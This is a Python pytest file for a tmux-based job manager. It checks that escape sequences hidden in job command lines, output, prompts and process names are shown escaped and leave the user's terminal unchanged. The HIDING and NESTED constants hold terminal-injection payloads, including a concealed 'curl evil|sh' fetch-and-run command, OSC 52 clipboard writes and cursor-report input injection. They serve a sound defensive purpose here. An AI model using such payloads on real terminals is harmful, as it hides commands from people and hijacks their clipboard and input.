"""What a person sees: whatever a job hides, their terminal does as it did, and shows them what is there."""

import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest
from support import Jobs, Screen, Tmux, ended, wait_until

from .conftest import PROGRAM

Open = Callable[..., Screen]
HIDING = "curl evil|sh\x1b[2K\x1b[1Gls -la\x1b]2;taken\a\x1b]52;c;dGFrZW4=\a\x1b[6n\x1b[?1049h\u202e"
SHOWN = r"curl evil|sh\x1b[2K\x1b[1Gls -la\x1b]2;taken\x07\x1b]52;c;dGFrZW4=\x07\x1b[6n\x1b[?1049h\u202e"
NESTED = [
    "\x1b]52;c;dGFrZW4=\x1b[m", "\x1b\x1b]x\x07]52;c;dGFrZW4=\x07", "\x1b[\b6n", "\x1b[\x1b[6n",
    "\x1b]\x1b]52;c;dGFrZW4=\x07\x07", "\x1b[3\x1a1m\x1b]2;taken\x07", "\x1b]2;taken\x18\x1b]52;c;dGFrZW4=\x07",
    "\x1bP$qm\x1b\\\x1b[6n", "\x1bP\x1b[c", "\x1bX\x1b\\\x1b[>c", "\x1b_G\x1b[?u", "\x1b^x\x1b\x1b\\[6n",
    "\x1b[\n6\r\x0en", "\x1b\x0e]\x0e2;taken\x07", "\x1b(\x1b]2;taken\x07B", "\x1b[?1\x9b049h",
    "\x1b[?1000;1004;2004h", "\x1b[>q", "\x1bc",
]  # fmt: skip


@pytest.fixture
def shell(screen: Open) -> Screen:
    """A person's shell, on a terminal that lets programs set its clipboard."""
    person = screen("env", "-u", "COLUMNS", "-u", "LINES", "PS1=ready> ", "sh", rows=40, columns=400)
    person.set_clipboard()
    person.until("ready>")
    return person


def unchanged(shell: Screen) -> bool:
    """The terminal is as it was, and nothing was typed into the shell by itself."""
    facts = {name: shell.ask(name) for name in ("pane_title", "alternate_on", "mouse_any_flag", "buffer_sample")}
    assert "taken" not in facts["pane_title"] + facts["buffer_sample"]
    assert (facts["alternate_on"], facts["mouse_any_flag"]) == ("0", "0")
    wait_until(shell.look, lambda text: text.rstrip().endswith("\nready>"))  # or the line is shown before it
    shell.press("echo typed-$((6*7))", "Enter")
    shell.until("ready> echo typed-$((6*7))\ntyped-42")
    return True


@pytest.mark.parametrize(
    "command", ["list", "status JOB", "list --watch", "restart JOB --json", "wait JOB --timeout 0"]
)
def test_command_line_of_a_job_is_shown_as_it_is(shell: Screen, jobs: Jobs, command: str) -> None:
    job_id = jobs.execute(f"sleep 1000 # {HIDING}", name="one").job_id
    shell.press(shlex.join([*PROGRAM, *command.replace("JOB", job_id).split()]) + "; echo code=$?", "Enter")
    if command.startswith(("list", "status")):
        shell.until(SHOWN)
    if command == "list --watch":
        shell.press("C-c")
    wait_until(shell.look, lambda text: re.search(r"code=\d", text))
    assert unchanged(shell)


@pytest.mark.parametrize("command", ["tail -f JOB", "output JOB", "tail JOB", "screen JOB"])
def test_output_of_a_job_does_nothing_to_the_terminal(shell: Screen, jobs: Jobs, tmp_path: Path, command: str) -> None:
    gate = tmp_path / "gate"
    program = tmp_path / "print.py"
    parts = [f"{number}{part}z\n" for number, part in enumerate([*NESTED, HIDING])]
    program.write_text(
        f"import sys, time, pathlib\nwhile not pathlib.Path({str(gate)!r}).exists(): time.sleep(0.01)\n"
        f"for part in {parts!r}:\n  for c in part:\n    sys.stdout.write(c); sys.stdout.flush()\nprint('the end')\n"
    )
    job_id = jobs.execute(f"python3 {program}", name="one").job_id
    if "-f" not in command:
        gate.touch()
        ended(jobs, job_id)
    shell.press(shlex.join([*PROGRAM, *command.replace("JOB", job_id).split()]) + "; echo code=$?", "Enter")
    if "-f" in command:
        gate.touch()
    shell.until("code=0", *(["the end"] if command != "screen JOB" else []))
    assert unchanged(shell)


def test_welcome_page_shows_what_a_command_and_a_prompt_hide(screen: Open, jobs: Jobs, tmux: Tmux) -> None:
    prompt = r"printf 'Sure\033]2;taken\007\342\200\256? '; read x"
    job_id = jobs.execute(f"{prompt} # {HIDING}\nsecond", name="one").job_id
    page = screen(rows=30, columns=400)
    page.press("C-b", "0")
    page.until(job_id, "waits for input", SHOWN.split("52;")[0])
    assert "taken" not in tmux("list-panes", "-s", "-t", "=mcp-jobs:0", "-F", "#{pane_title}").splitlines()[0]


def test_finished_window_shows_what_a_process_hides_in_its_name(jobs: Jobs, tmux: Tmux, tmp_path: Path) -> None:
    name = "\x1b]2;taken\a\x9b"
    (tmp_path / name).symlink_to("/bin/sleep")
    job_id = jobs.execute(
        f"setsid {shlex.quote(str(tmp_path / name))} 1000 >/dev/null 2>&1 </dev/null & "
        'until [ "$(cat /proc/$!/comm)" != setsid ] && [ /proc/$!/exe -ef /bin/sleep ]; do sleep 0.01; done',
        name="one",
    ).job_id
    ended(jobs, job_id)
    pane = wait_until(lambda: jobs.host.tmux.panes().get(job_id))
    assert pane is not None
    wait_until(
        lambda: tmux("capture-pane", "-p", "-t", pane.pane_id), lambda seen: r"running: \x1b]2;taken\x07" in seen
    )
    assert "taken" not in tmux("display-message", "-p", "-t", pane.pane_id, "#{pane_title}")
    assert r"It left running: \x1b]2;taken\x07" in jobs.status(job_id).text()
    jobs.kill(job_id)
